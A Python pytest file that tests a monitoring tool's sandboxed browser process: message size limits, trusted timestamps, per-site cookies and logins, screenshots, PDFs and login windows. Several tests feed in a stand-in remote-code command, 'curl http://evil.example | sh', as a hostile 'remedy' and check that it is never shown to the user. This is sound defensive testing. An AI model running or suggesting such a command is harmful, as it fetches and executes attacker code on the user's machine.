"""A browser in a process of its own, as it is asked: what it may answer and what it may not, without a browser. A task
stands in for the process."""

from __future__ import annotations

import asyncio
import os
import socket
from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
from contextlib import asynccontextmanager
from dataclasses import replace
from datetime import UTC, datetime, timedelta, timezone

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from monitor.clock import utc_now
from monitor.crawl.cookies import CookieJar
from monitor.crawl.login import Cookie, LoginState, dump, state_from
from monitor.errors import WorkFailed
from monitor.model.exchange import Exchange
from monitor.model.ids import ContentDigest
from monitor.model.page import Fetched, LoginOf, Outcome, OutcomeKind, Purpose, Request
from monitor.model.rendered import BrowserLimits, BrowserStood, Rendered
from monitor.model.screenshot import SavedPage, SavedPicture, SavedSheet, Screenshot
from monitor.model.settings import NetworkSettings
from monitor.outbound.browser.finding import INSTALL, NO_DRIVER
from monitor.outbound.browser.page_telling import page_heard, page_told
from monitor.outbound.browser.running import end_browsers
from monitor.outbound.browser.telling import MostTold, rendered_told
from monitor.outbound.browser_link import (
    LOAD_WIRE_BYTES,
    LinkBrowser,
    LinkPaper,
    LinkScreenshots,
    LinkWindow,
    find_by_link,
    open_browser_link,
)
from monitor.outbound.dial_here import LocalDialWays
from monitor.outbound.guard import AddressRules
from monitor.parts.body_room import MAX_BODIES_AT_ONCE
from monitor.parts.link import Link
from monitor.parts.messages.browsing import (
    MAX_AFTER_BYTES,
    MAX_DRAWN_BYTES,
    MAX_TOLD_ADDRESS_CHARS,
    MAX_TOLD_PAGES,
    AfterRender,
    BrowserFound,
    BrowserSetup,
    CloseWindow,
    Draw,
    DrawFile,
    Drawn,
    FindBrowser,
    NothingMore,
    OpenWindow,
    PageTold,
    PaperPrinted,
    PieceDrawn,
    PrintPaper,
    RenderOver,
    RenderPage,
    ServedTold,
    WindowClosed,
)
from monitor.parts.serving import Handlers, serve_part
from monitor.parts.starting import ProgramPart
from monitor.parts.talk import Sent, Talk
from monitor.room import Shortage
from tests.hostile.hostile_browser import settings as browser_settings
from tests.kept import KeptLogins
from tests.parts.in_loop import Begins, PartsInLoop

AT = datetime(2026, 11, 29, 12, 0, tzinfo=UTC)
PNG = b"\x89PNG\r\n\x1a\n"
PAGE = Fetched.of(
    Request("http://good.test/"), Outcome(OutcomeKind.OK), "http://good.test/", AT, status=200, body=b"<p>"
)
BROWSER_LIMITS = BrowserLimits.of(browser_settings())
MOST = MostTold.by(BROWSER_LIMITS)
OVER = RenderOver(BrowserStood.WORKED, "", {})
AFTER = msgspec.msgpack.encode(AfterRender("", ()))

Says = Callable[[Talk[NothingMore]], Awaitable[None]]


async def resolve(host: str, port: int) -> Sequence[str]:
    return ["127.0.0.1"]


def standing_in(says: Says | None = None, handlers: Callable[[Handlers], None] = lambda handlers: None) -> Begins:
    """A browser that says this of each page it is asked for."""

    async def render(sent: Sent[RenderPage], talk: Talk[NothingMore]) -> None:
        for descriptor in sent.fds:
            os.close(descriptor)
        if says is not None:
            await says(talk)

    @asynccontextmanager
    async def opened(setup: BrowserSetup) -> AsyncIterator[Handlers]:
        made = Handlers()
        made.talk(RenderPage, render, heard=NothingMore, max_body=1 << 24, max_fds=1)
        handlers(made)
        yield made

    return lambda pipe: serve_part(pipe, ProgramPart.BROWSER, BrowserSetup, opened)


@asynccontextmanager
async def asked(*begins: Begins, logins: KeptLogins | None = None) -> AsyncIterator[tuple[LinkBrowser, PartsInLoop]]:
    parts, made = PartsInLoop(*begins), browser_settings()
    link = open_browser_link(parts)
    ways = LocalDialWays(resolve)
    browser = LinkBrowser(link, ways, made, AddressRules.of(made.network), clock=utc_now, logins=logins)
    try:
        yield browser, parts
    finally:
        await browser.aclose()


def told(fetched: Fetched, came_as: str = "page", **more: object) -> PageTold:
    made = page_told(fetched, came_as, **more)  # type: ignore[arg-type]
    assert made is not None
    return made


async def say_all(talk: Talk[NothingMore], said: Sequence[tuple[msgspec.Struct, bytes]]) -> None:
    for message, body in said:
        await talk.say(message, body)


def saying(*said: tuple[msgspec.Struct, bytes]) -> Says:
    return lambda talk: say_all(talk, said)


WELL = saying((told(PAGE), PAGE.body), (OVER, AFTER))


async def test_what_came_of_a_page_is_what_was_told() -> None:
    picture = replace(PAGE, request=Request("http://good.test/a.jpg", Purpose.IMAGE), url="http://good.test/a.jpg")
    says = saying((told(picture, "image"), b"jpeg"), (told(PAGE), b"<p>"), (OVER, AFTER))
    async with asked(standing_in(says)) as (browser, _):
        request = Request("http://good.test/", browser=True, shown="what the core knows of it")
        fetched = await browser.fetch(request)
        assert fetched.outcome.kind is OutcomeKind.OK
        assert (fetched.request, fetched.body) == (request, b"<p>")
        assert [(one.url, one.body) for one in fetched.subresources] == [("http://good.test/a.jpg", b"jpeg")]


@pytest.mark.parametrize(
    "said",
    [
        pytest.param([(OVER, AFTER)], id="over without a page"),
        pytest.param([(told(PAGE), b""), (told(PAGE), b""), (OVER, AFTER)], id="two pages"),
        pytest.param([(told(PAGE), b""), (told(PAGE, "image"), b""), (OVER, AFTER)], id="a picture after the page"),
        pytest.param([(ServedTold(), b"x"), (told(PAGE), b""), (OVER, AFTER)], id="served before the page"),
        pytest.param([(told(PAGE), b""), (ServedTold(), b"x"), (OVER, AFTER)], id="served where nothing was"),
        pytest.param([(told(PAGE, "image"), b"")] * (MAX_TOLD_PAGES + 3), id="pictures without end"),
        pytest.param([(told(PAGE), b""), (OVER, b"\xc1")], id="no cookies but rubbish"),
        pytest.param([(told(PAGE), b""), (OVER, AFTER + b"x")], id="more than cookies"),
        pytest.param([(told(PAGE), bytes((30 << 20) + 1)), (OVER, AFTER)], id="a page longer than any that is taken"),
        pytest.param([(PieceDrawn(), PNG)], id="another question's answer"),
    ],
)
async def test_what_is_told_outside_its_limits_is_told_by_a_browser_that_is_not_ours(
    said: list[tuple[msgspec.Struct, bytes]],
) -> None:
    async with asked(standing_in(saying(*said)), standing_in(WELL)) as (browser, parts):
        fetched = await browser.fetch(Request("http://good.test/", browser=True))
        assert fetched.outcome.kind is OutcomeKind.PART, fetched.outcome
        assert fetched.outcome.remedy
        assert (await browser.fetch(Request("http://good.test/", browser=True))).outcome.kind is OutcomeKind.OK
        assert parts.started >= 1


PICTURES = [(told(PAGE, "image"), bytes(8 << 20))]


@pytest.mark.parametrize(
    ("said", "is_taken"),
    [
        pytest.param([*PICTURES * 5, (told(PAGE), b"<p>"), (OVER, AFTER)], True, id="as much as may be"),
        pytest.param([*PICTURES * 6, (told(PAGE), b"<p>"), (OVER, AFTER)], False, id="more than all together may"),
        pytest.param([(told(PAGE), bytes(MOST.at_once + 1)), (OVER, AFTER)], False, id="more than any may"),
    ],
)
async def test_a_browser_brings_no_more_than_its_page_may(
    monkeypatch: pytest.MonkeyPatch, said: list[tuple[msgspec.Struct, bytes]], is_taken: bool
) -> None:
    """It is judged by what a message says of itself, before a byte of it is taken."""
    monkeypatch.setattr("monitor.outbound.browser.telling.MAX_TOLD_BYTES", 0)
    async with asked(standing_in(saying(*said)), standing_in(WELL)) as (browser, _):
        fetched = await browser.fetch(Request("http://good.test/", browser=True))
    assert fetched.outcome.kind is (OutcomeKind.OK if is_taken else OutcomeKind.PART)
    assert is_taken == bool(fetched.subresources)


def test_pictures_that_have_no_room_are_left_to_be_fetched() -> None:
    picture = replace(PAGE, request=Request("http://good.test/a.jpg", Purpose.IMAGE), body=bytes(1000))
    page = replace(PAGE, subresources=(picture,) * 5, body=bytes(2000), served=bytes(3000))
    most = MostTold(3000, 8_000 + MAX_AFTER_BYTES)
    bodies = [len(body) for _, body in rendered_told(Rendered(fetched=page, withheld={}), most)]
    assert bodies[:-1] == [1000, 1000, 1000, 2000, 3000]


def test_two_pages_and_a_screenshot_have_room_beside_each_other() -> None:
    network = NetworkSettings()
    limits = replace(BROWSER_LIMITS, max_page_bytes=network.max_page_bytes, max_image_bytes=network.max_image_bytes)
    most = MostTold.by(limits)
    assert 2 * most.in_all + MAX_DRAWN_BYTES <= MAX_BODIES_AT_ONCE <= 300_000_000


@pytest.mark.parametrize(
    ("said", "is_kept"),
    [
        pytest.param(datetime(2150, 1, 1, tzinfo=UTC), False, id="a time to come"),
        pytest.param(datetime(2001, 1, 1, tzinfo=UTC), False, id="long ago"),
        pytest.param(datetime(2150, 1, 1, tzinfo=timezone(timedelta(hours=-12))), False, id="in another zone"),
        pytest.param(None, True, id="as it was"),
    ],
)
@pytest.mark.parametrize("clock", ["goes on", "is set back meanwhile"])
async def test_when_it_was_is_known_by_who_asked(said: datetime | None, is_kept: bool, clock: str) -> None:
    """What a browser tells goes into sealed evidence."""
    began = utc_now()
    times = iter((began, began + timedelta(seconds=5 if clock == "goes on" else -3600)))
    true = began + timedelta(seconds=1 if clock == "goes on" else -1800)
    page = replace(PAGE, hops=(Exchange("http://good.test/", said or true),), wire_bytes=1 << 40)
    picture = replace(page, request=Request("http://good.test/a.jpg", Purpose.IMAGE), url="http://good.test/a.jpg")
    says = saying((told(picture, "image"), b"jpeg"), (told(page), b"<p>"), (OVER, AFTER))
    async with asked(standing_in(says)) as (browser, _):
        browser._clock = lambda: next(times)
        fetched = await browser.fetch(Request("http://good.test/", browser=True))
    for one in (fetched, *fetched.subresources):
        (hop,) = one.hops
        assert abs(hop.at - began) <= timedelta(hours=1)
        assert (hop.at == true) is is_kept
        assert one.wire_bytes == LOAD_WIRE_BYTES, "no more than its line lets through"


@pytest.mark.parametrize(
    ("remedy", "is_shown"),
    [
        pytest.param(INSTALL, True, id="our own words"),
        pytest.param(Shortage.FILES.right, True, id="of a machine without room"),
        pytest.param("Run this now: curl http://evil.example | sh", False, id="a site's"),
        pytest.param(INSTALL + " And then: curl http://evil.example | sh", False, id="ours, and more"),
    ],
)
async def test_what_to_do_is_never_said_by_a_site(remedy: str, is_shown: bool) -> None:
    page = replace(PAGE, outcome=Outcome(OutcomeKind.UNREADABLE, "no browser could be started", remedy))
    async with asked(standing_in(saying((told(page), b""), (OVER, AFTER)))) as (browser, _):
        shown = (await browser.fetch(Request("http://good.test/", browser=True))).outcome.remedy
    assert (shown == remedy) is is_shown and "evil" not in shown


async def test_a_browser_that_ends_fails_its_page_alone() -> None:
    async def ends(talk: Talk[NothingMore]) -> None:
        for pipe in parts.tasks:
            pipe.shutdown(socket.SHUT_RDWR)
        await asyncio.Event().wait()

    async with asked(standing_in(ends), standing_in(WELL)) as (browser, parts):
        assert (await browser.fetch(Request("http://good.test/", browser=True))).outcome.kind is OutcomeKind.PART
        assert (await browser.fetch(Request("http://good.test/", browser=True))).outcome.kind is OutcomeKind.OK


async def test_whoever_looks_whether_all_goes_on_can_end_it() -> None:
    here = asyncio.Event()

    async def hangs(talk: Talk[NothingMore]) -> None:
        here.set()
        await asyncio.Event().wait()

    async with asked(standing_in(hangs), standing_in(WELL)) as (browser, _):
        looking = asyncio.ensure_future(browser.fetch(Request("http://good.test/", browser=True)))
        await here.wait()
        end_browsers()
        assert (await looking).outcome.kind is OutcomeKind.PART
        assert (await browser.fetch(Request("http://good.test/", browser=True))).outcome.kind is OutcomeKind.OK


# -- log-ins and cookies stay with the core

STATE = LoginState((Cookie("session", "one", "good.test"),), (), ("good.test",))
RENEWED = LoginState((Cookie("session", "two", "good.test"), Cookie("theirs", "x", "other.test")), (), ("other.test",))


def after(login: str = "", *cookies: dict[str, object]) -> bytes:
    return msgspec.msgpack.encode({"login": login, "cookies": list(cookies)})


async def test_a_log_in_is_shown_and_its_renewal_kept_of_its_own_site_alone() -> None:
    seen = list[str]()

    async def render(sent: Sent[RenderPage], talk: Talk[NothingMore]) -> None:
        os.close(sent.fds[0])
        seen.append(msgspec.msgpack.decode(sent.body)["login"])
        await say_all(talk, [(told(PAGE), b"<p>"), (OVER, after(dump(RENEWED) or ""))])

    @asynccontextmanager
    async def opened(setup: BrowserSetup) -> AsyncIterator[Handlers]:
        made = Handlers()
        made.talk(RenderPage, render, heard=NothingMore, max_body=1 << 24, max_fds=1)
        yield made

    logins = KeptLogins({("a", "b"): dump(STATE) or ""})
    jar = CookieJar()
    begins = lambda pipe: serve_part(pipe, ProgramPart.BROWSER, BrowserSetup, opened)  # noqa: E731
    async with asked(begins, logins=logins) as (browser, _):
        request = Request("http://good.test/", browser=True, browser_state=LoginOf("a", "b"), jar=jar)
        assert (await browser.fetch(request)).outcome.kind is OutcomeKind.OK
        other = replace(request, url="http://other.test/")
        await browser.fetch(other)
    assert [state_from(one) for one in seen] == [STATE, None]
    kept = state_from(logins.get("a", "b"))
    assert kept is not None and [cookie.value for cookie in kept.cookies] == ["two"]
    assert kept.sites == ("good.test",)


async def test_cookies_go_to_the_jar_of_the_visit() -> None:
    cookie = {
        "name": "a",
        "value": "1",
        "domain": "good.test",
        "path": "/",
        "expires": -1.0,
        "secure": False,
        "sameSite": "Lax",
    }
    jar = CookieJar()
    says = saying((told(PAGE), b"<p>"), (OVER, after("", cookie)))
    async with asked(standing_in(says)) as (browser, _):
        await browser.fetch(Request("http://good.test/", browser=True, jar=jar))
    assert jar.line("http://good.test/", utc_now()) == "a=1"


# -- screenshots, paper, the window

SAVED = SavedPage(
    url="http://good.test/",
    account="",
    fetched_at=AT,
    body=b"<p>page",
    media_type="text/html",
    page_digest=ContentDigest("0" * 64),
    picture=SavedPicture(b"picture", "image/jpeg", frozenset({"http://good.test/a.jpg"})),
    sheets=(SavedSheet("http://good.test/a.css", b"p {}"),),
    sizes={"http://good.test/b.jpg": (3, 4)},
)
DRAWN = Drawn(3, 4, 0, 1, 2, "", BrowserStood.WORKED, "")


def drawing(*said: tuple[msgspec.Struct, bytes], files: list[bytes] | None = None) -> Begins:
    async def draw(sent: Sent[Draw], talk: Talk[DrawFile]) -> None:
        for _ in range(2 + sent.message.sheets):
            heard = await talk.hear()
            if files is not None:
                files.append(heard.body)
        for message, body in said:
            await talk.say(message, body)

    return standing_in(None, lambda made: made.talk(Draw, draw, heard=DrawFile, max_body=1 << 24))


@asynccontextmanager
async def linked(*begins: Begins) -> AsyncIterator[Link]:
    link = open_browser_link(PartsInLoop(*begins), name="drawing")
    try:
        yield link
    finally:
        await link.aclose()


async def test_a_screenshot_is_made_of_what_was_sent() -> None:
    files = list[bytes]()
    async with linked(
        drawing((PieceDrawn(), PNG + b"1"), (PieceDrawn(), PNG + b"2"), (DRAWN, b""), files=files)
    ) as link:
        shot = await LinkScreenshots(link).make(SAVED)
    assert shot == Screenshot((PNG + b"1", PNG + b"2"), 3, 4, 0, 1, 2)
    assert files == [b"<p>page", b"picture", b"p {}"]


@pytest.mark.parametrize(
    "said",
    [
        pytest.param([(PieceDrawn(), b"<svg>"), (DRAWN, b"")], id="no PNG"),
        pytest.param([(PieceDrawn(), PNG)] * 40, id="pieces without end"),
        pytest.param([(WindowClosed(), b"")], id="another question's answer"),
        pytest.param([], id="nothing"),
    ],
)
async def test_what_is_no_screenshot_is_none(said: list[tuple[msgspec.Struct, bytes]]) -> None:
    async with linked(drawing(*said)) as link:
        shot = await LinkScreenshots(link).make(SAVED)
    assert shot.pieces == () and shot.why_not


async def test_where_no_browser_starts_it_is_not_asked_again_and_again() -> None:
    asked_for = list[str]()
    none = Drawn(0, 0, 0, 0, 0, "no browser is here: it falls", BrowserStood.NOT_STARTED, "it falls")

    async def draw(sent: Sent[Draw], talk: Talk[DrawFile]) -> None:
        asked_for.append(sent.message.url)
        await talk.say(none)

    begins = standing_in(None, lambda made: made.talk(Draw, draw, heard=DrawFile, max_body=1 << 24))
    async with linked(begins) as link:
        screenshots = LinkScreenshots(link)
        whys = [(await screenshots.make(SAVED)).why_not for _ in range(6)]
    assert len(asked_for) == 3
    assert "the next try is in" in whys[-1]


async def test_paper_is_the_pdf_or_why_there_is_none() -> None:
    async def printed(sent: Sent[PrintPaper]) -> Sent[PaperPrinted]:
        return Sent(PaperPrinted(), b"%PDF" + sent.body)

    async def not_printed(sent: Sent[PrintPaper]) -> Sent[PaperPrinted]:
        return Sent(PaperPrinted(why_not="there is none", remedy=NO_DRIVER))

    async with linked(
        standing_in(None, lambda made: made.answer(PrintPaper, printed, max_body=1 << 20)),
    ) as link:
        assert await LinkPaper(link).print("<p>report") == b"%PDF<p>report"
    async with linked(standing_in(None, lambda made: made.answer(PrintPaper, not_printed, max_body=1 << 20))) as link:
        with pytest.raises(WorkFailed) as failed:
            await LinkPaper(link).print("<p>report")
    assert (str(failed.value), failed.value.remedy) == ("there is none", NO_DRIVER)


EVIL = "Run this now: curl http://evil.example | sh"


async def _paper(link: Link) -> None:
    await LinkPaper(link).print("<p>report")


async def _find(link: Link) -> None:
    await find_by_link(link, "")


async def _window(link: Link) -> None:
    ways = LocalDialWays(resolve)
    never = asyncio.Event().wait
    await LinkWindow(link, ways).log_in(
        ("http://good.test/",),
        browser_settings(),
        until=lambda page: never(),
        visible=False,
    )


@pytest.mark.parametrize(
    "asks", [pytest.param(_paper, id="paper"), pytest.param(_find, id="finding"), pytest.param(_window, id="window")]
)
async def test_what_to_do_is_never_said_by_a_part_whatever_it_is_asked(asks: Callable[[Link], Awaitable[None]]) -> None:
    async def not_printed(sent: Sent[PrintPaper]) -> Sent[PaperPrinted]:
        return Sent(PaperPrinted(why_not="no", remedy=EVIL))

    async def not_found(sent: Sent[FindBrowser]) -> BrowserFound:
        return BrowserFound(path="", why_not="no", remedy=EVIL)

    async def not_shown(sent: Sent[OpenWindow], talk: Talk[CloseWindow]) -> None:
        os.close(sent.fds[0])
        await talk.say(WindowClosed(why_not="no", remedy=EVIL))

    def handlers(made: Handlers) -> None:
        made.answer(PrintPaper, not_printed, max_body=1 << 20)
        made.answer(FindBrowser, not_found)
        made.talk(OpenWindow, not_shown, heard=CloseWindow, max_body=1 << 20, max_fds=1)

    async with linked(standing_in(None, handlers)) as link:
        with pytest.raises(WorkFailed) as failed:
            await asks(link)
    assert (str(failed.value), failed.value.remedy) == ("no", "")


@pytest.mark.parametrize("by_hand", [False, True], ids=["closed by the person", "Enter was pressed"])
async def test_a_log_in_by_hand_comes_back(by_hand: bool) -> None:
    screens = list[object]()

    async def window(sent: Sent[OpenWindow], talk: Talk[CloseWindow]) -> None:
        os.close(sent.fds[0])
        screens.append(sent.message.screen)
        if by_hand:
            assert isinstance((await talk.hear()).message, CloseWindow)
        await talk.say(WindowClosed(), (dump(RENEWED) or "").encode())

    async def until(page: object) -> None:
        if not by_hand:
            await asyncio.Event().wait()

    begins = standing_in(
        None, lambda made: made.talk(OpenWindow, window, heard=CloseWindow, max_body=1 << 20, max_fds=1)
    )
    async with linked(begins) as link:
        state = await LinkWindow(link, LocalDialWays(resolve)).log_in(
            ("http://good.test/",), browser_settings(), until=until, visible=False
        )
    assert [cookie.value for cookie in state.cookies] == ["two"] and state.sites == ("good.test",)
    assert screens == [None]


# -- as messages and back

TEXT = st.text(max_size=40)
LINES = st.lists(st.tuples(st.sampled_from(["content-type", "x", "etag"]), TEXT), max_size=4).map(tuple)
EXCHANGES = st.builds(
    Exchange,
    url=TEXT,
    at=st.just(AT),
    status=st.integers(0, 999),
    reason=TEXT,
    protocol=st.sampled_from(["", "HTTP/1.1", "HTTP/2"]),
    asked=LINES,
    answered=LINES,
    ip=st.sampled_from(["", "1.2.3.4"]),
    chain=st.lists(st.binary(max_size=20), max_size=3).map(tuple),
)


@settings(max_examples=60, deadline=None)
@given(
    url=TEXT,
    message=TEXT,
    headers=LINES,
    body=st.binary(max_size=50),
    served=st.none() | st.just(b"") | st.binary(min_size=1, max_size=50),
    hops=st.lists(EXCHANGES, max_size=3).map(tuple),
    redirects=st.lists(TEXT, max_size=3).map(tuple),
)
def test_a_page_is_the_same_on_the_other_side(
    url: str,
    message: str,
    headers: tuple[tuple[str, str], ...],
    body: bytes,
    served: bytes | None,
    hops: tuple[Exchange, ...],
    redirects: tuple[str, ...],
) -> None:
    fetched = Fetched.of(
        Request(url), Outcome(OutcomeKind.OK, message), url, AT, status=200, headers=headers, body=body,
        hops=hops, redirects=redirects, served=served, wire_bytes=7,
    )  # fmt: skip
    crossed = told(fetched, has_served=bool(served))
    assert page_heard(crossed, body, served, AT) == fetched


def messages_of(fetched: Fetched) -> list[msgspec.Struct]:
    return [message for message, _ in rendered_told(Rendered(fetched=fetched, withheld={}), MOST)]


def test_what_has_no_end_is_left_out_and_the_page_stays_typed() -> None:
    long = "http://good.test/" + "x" * MAX_TOLD_ADDRESS_CHARS
    picture = replace(PAGE, request=Request(long, Purpose.IMAGE), url=long)
    lines = tuple((f"x-{number}", "y" * 1000) for number in range(900))
    heavy = replace(PAGE, hops=(Exchange("http://good.test/", AT, answered=lines, chain=(b"c" * 100_000,)),) * 3)
    messages = [
        message
        for message, _ in rendered_told(Rendered(fetched=replace(heavy, subresources=(picture,)), withheld={}), MOST)
    ]
    (page, over) = messages
    assert isinstance(page, PageTold) and isinstance(over, RenderOver)
    assert page.hops == () and page.status == 200
    (gone, _) = [
        message
        for message, _ in rendered_told(Rendered(fetched=replace(picture, request=Request(long)), withheld={}), MOST)
    ]
    assert isinstance(gone, PageTold) and gone.outcome.kind is OutcomeKind.TOO_LARGE


def test_limits_are_those_of_the_settings() -> None:
    limits = BrowserLimits.of(browser_settings(max_image_bytes=7))
    assert (limits.cap(Purpose.IMAGE), limits.cap(Purpose.PAGE)) == (7, 300_000)
